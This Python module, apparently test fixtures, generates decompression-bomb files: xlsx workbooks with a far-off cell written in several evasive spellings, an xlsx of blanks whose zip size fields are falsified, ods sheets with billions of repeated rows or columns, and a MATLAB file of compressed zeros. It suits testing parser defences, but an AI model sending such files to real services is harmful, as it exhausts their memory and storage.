"""Files made to harm who reads them: small, and far more or far out once they are unpacked."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_OF = "http://schemas.openxmlformats.org/package/2006"
_DOC = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_ODS = "application/vnd.oasis.opendocument.spreadsheet"


def archive(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as file:
        for name, content in members.items():
            file.writestr(name, content)
    return out.getvalue()


def workbook(sheet: bytes) -> bytes:
    """An xlsx whose one sheet is this XML."""
    types = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    return archive(
        {
            "[Content_Types].xml": (
                f'<Types xmlns="{_OF}/content-types"><Default Extension="rels" ContentType='
                '"application/vnd.openxmlformats-package.relationships+xml"/><Override PartName='
                f'"/xl/workbook.xml" ContentType="{types}.sheet.main+xml"/><Override PartName='
                f'"/xl/worksheets/sheet1.xml" ContentType="{types}.worksheet+xml"/></Types>'
            ).encode(),
            "_rels/.rels": (
                f'<Relationships xmlns="{_OF}/relationships"><Relationship Id="r1" '
                f'Type="{_DOC}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
            ).encode(),
            "xl/workbook.xml": (
                f'<workbook xmlns="{_MAIN}" xmlns:r="{_DOC}"><sheets>'
                '<sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>'
            ).encode(),
            "xl/_rels/workbook.xml.rels": (
                f'<Relationships xmlns="{_OF}/relationships"><Relationship Id="r1" '
                f'Type="{_DOC}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
            ).encode(),
            "xl/worksheets/sheet1.xml": sheet,
        }
    )


def far_cell(cell: str, prefix: str = "") -> bytes:
    """An xlsx with one cell at the start and one as written here."""
    p = prefix
    space = f'xmlns:{p[:-1]}="{_MAIN}"' if p else f'xmlns="{_MAIN}"'
    return workbook(
        f'<?xml version="1.0"?><{p}worksheet {space}><{p}sheetData><{p}row r="1"><{p}c r="A1">'
        f'<{p}v>1</{p}v></{p}c></{p}row><{p}row r="1048576">{cell}</{p}row></{p}sheetData>'
        f"</{p}worksheet>".encode()
    )


def blank_workbook() -> bytes:
    """An xlsx of a gigabyte of blanks, which the archive's directory gives as a few bytes."""
    sheet = f'<worksheet xmlns="{_MAIN}"><sheetData>'.encode() + b" " * (1 << 28)
    raw = bytearray(workbook(sheet))
    size = struct.pack("<I", len(sheet))
    while (at := raw.find(size)) >= 0:
        raw[at : at + 4] = struct.pack("<I", 1000)
    return bytes(raw)


def ods(rows: int, columns: int) -> bytes:
    """A sheet of one cell, repeated."""
    names = "urn:oasis:names:tc:opendocument:xmlns"
    content = (
        f'<office:document-content xmlns:office="{names}:office:1.0" xmlns:table='
        f'"{names}:table:1.0" xmlns:text="{names}:text:1.0"><office:body><office:spreadsheet>'
        f'<table:table table:name="S"><table:table-row table:number-rows-repeated="{rows}">'
        f'<table:table-cell table:number-columns-repeated="{columns}" office:value-type="float" '
        'office:value="1"><text:p>1</text:p></table:table-cell></table:table-row></table:table>'
        "</office:spreadsheet></office:body></office:document-content>"
    )
    manifest = f'<m:manifest xmlns:m="{names}:manifest:1.0"/>'
    members = {"mimetype": _ODS, "META-INF/manifest.xml": manifest, "content.xml": content}
    return archive({name: text.encode() for name, text in members.items()})


def matlab(numbers: int) -> bytes:
    """A MATLAB 5 file with a compressed vector of zeros."""
    size = 8 * numbers
    inner = struct.pack("<IIIIII", 6, 8, 6, 0, 5, 8) + struct.pack("<ii", numbers, 1)
    inner += struct.pack("<II", 1, 1) + b"x".ljust(8, b"\0") + struct.pack("<II", 9, size)
    head = struct.pack("<II", 14, len(inner) + size)
    squeeze = zlib.compressobj(9)
    packed = squeeze.compress(head + inner)
    block = bytes(1 << 24)
    for _ in range(size // len(block)):
        packed += squeeze.compress(block)
    packed += squeeze.compress(bytes(size % len(block))) + squeeze.flush()
    return (
        b"MATLAB 5.0 MAT-file".ljust(124) + b"\0\1IM" + struct.pack("<II", 15, len(packed)) + packed
    )


FAR = '<c r="XFD1048576"><v>1</v></c>'
BOMBS: dict[str, Callable[[], bytes]] = {
    "xlsx": lambda: far_cell(FAR),
    "xlsx, two spaces": lambda: far_cell(FAR.replace("<c ", "<c  ")),
    "xlsx, single quotes": lambda: far_cell(FAR.replace('"', "'")),
    "xlsx, lower case": lambda: far_cell(FAR.replace("XFD", "xfd")),
    "xlsx, other attribute first": lambda: far_cell(FAR.replace("<c ", '<c s="0" ')),
    "xlsx, prefix": lambda: far_cell(FAR.replace("<", "<x:").replace("<x:/", "</x:"), "x:"),
    "xlsx, beyond the last row": lambda: far_cell(FAR.replace("1048576", "4294967295")),
    "xlsx, blanks": blank_workbook,
    "ods, rows": lambda: ods(2_000_000_000, 1),
    "ods, columns": lambda: ods(1, 2_000_000_000),
    "ods, both": lambda: ods(1_048_576, 16_384),
    "mat": lambda: matlab(600_000_000 // 4),
}
